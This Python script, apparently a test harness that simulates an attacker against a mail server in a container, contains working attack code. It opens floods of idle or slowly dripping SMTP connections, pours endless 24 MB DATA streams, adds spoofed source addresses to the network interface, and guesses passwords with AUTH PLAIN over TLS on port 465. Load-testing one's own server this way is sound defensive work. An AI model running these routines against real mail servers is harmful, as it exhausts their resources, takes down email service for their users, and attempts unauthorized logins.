"""What an attacker's machine does, run in a container of the world: Python's own library alone.

    attack.py idle   TARGET NUMBER SECONDS ADDRESS…      connections to 25 from each address, kept
    attack.py drip   TARGET NUMBER SECONDS ADDRESS…      the same, with a byte every second
    attack.py data   TARGET NUMBER SECONDS ADDRESS…      24 MB of DATA without an end on each
    attack.py guess  TARGET NUMBER LOGIN                 wrong passwords at 465, one a connection
    attack.py greet  TARGET                              what port 25 says first

Prints one JSON object: how often it was greeted, and what else was said. Addresses that the machine
does not have yet are added to its interface.
"""

from __future__ import annotations

import base64
import contextlib
import json
import selectors
import socket
import ssl
import subprocess
import sys
import time
from collections import Counter

_BLOCK = (b"x" * 76 + b"\r\n") * 840
_SIZE = 24 << 20
_TIMEOUT = 10.0  # seconds


def open_all(target: str, number: int, addresses: list[str]) -> list[socket.socket]:
    found = []
    for _ in range(number):
        for address in addresses:
            connection = socket.socket()
            connection.settimeout(_TIMEOUT)
            with contextlib.suppress(OSError):
                connection.bind((address, 0))
                connection.connect((target, 25))
                found.append(connection)
    return found


def greetings(connections: list[socket.socket]) -> tuple[Counter[str], list[socket.socket]]:
    said: Counter[str] = Counter()
    greeted = []
    for connection in connections:
        connection.settimeout(1.0)
        try:
            code = connection.recv(500)[:3].decode()
        except OSError as error:
            code = type(error).__name__
        said[code] += 1
        if code == "220":
            greeted.append(connection)
    return said, greeted


def drip(connections: list[socket.socket], seconds: float) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for connection in connections:
            with contextlib.suppress(OSError):
                connection.send(b"N")
        time.sleep(1)


def pour(connections: list[socket.socket], seconds: float) -> Counter[str]:
    """As much as each takes; how they fared."""
    lines = b"EHLO x\r\n", b"MAIL FROM:<>\r\n", b"RCPT TO:<postmaster@example.com>\r\n", b"DATA\r\n"
    poured: Counter[str] = Counter()
    selector = selectors.DefaultSelector()
    for connection in connections:
        connection.settimeout(_TIMEOUT)
        try:
            for line in lines:
                connection.sendall(line)
                time.sleep(0.01)
                connection.recv(4000)
        except OSError:
            poured["ended"] += 1
            continue
        connection.setblocking(False)
        selector.register(connection, selectors.EVENT_WRITE, [_SIZE])
    end = time.monotonic() + seconds
    while selector.get_map() and time.monotonic() < end:
        for key, _ in selector.select(1.0):
            assert isinstance(key.fileobj, socket.socket)
            try:
                key.data[0] -= key.fileobj.send(_BLOCK)
            except BlockingIOError:
                continue
            except OSError:
                poured["ended"] += 1
                selector.unregister(key.fileobj)
                continue
            if key.data[0] <= 0:
                poured["poured"] += 1
                selector.unregister(key.fileobj)
    poured["unfinished"] = len(selector.get_map())
    time.sleep(max(0.0, end - time.monotonic()))
    return poured


def guess(target: str, number: int, login: str) -> Counter[str]:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    said: Counter[str] = Counter()
    for index in range(number):
        try:
            with (
                socket.create_connection((target, 465), timeout=_TIMEOUT) as plain,
                context.wrap_socket(plain) as secure,
                secure.makefile("rb") as replies,
            ):
                replies.readline()
                secure.sendall(b"EHLO x\r\n")
                while replies.readline()[3:4] == b"-":
                    pass
                word = base64.b64encode(f"\0{login}\0wrong{index}".encode())
                secure.sendall(b"AUTH PLAIN " + word + b"\r\n")
                said[replies.readline()[:3].decode()] += 1
        except OSError:
            said["closed"] += 1
    return said


def main() -> None:
    what, target, *rest = sys.argv[1:]
    if what == "greet":
        with socket.create_connection((target, 25), timeout=_TIMEOUT) as connection:
            print(json.dumps({"line": connection.recv(500).decode()}))
        return
    number = int(rest[0])
    if what == "guess":
        print(json.dumps(guess(target, number, rest[1])))
        return
    seconds, addresses = float(rest[1]), rest[2:]
    for address in addresses:
        argv = ["ip", "addr", "add", f"{address}/24", "dev", "eth0"]
        subprocess.run(argv, check=False, stderr=subprocess.DEVNULL)  # noqa: S603
    said, greeted = greetings(open_all(target, number, addresses))
    if what == "data":
        said += pour(greeted, seconds)
    elif what == "drip":
        drip(greeted, seconds)
    else:
        time.sleep(seconds)
    print(json.dumps(said))


if __name__ == "__main__":
    main()
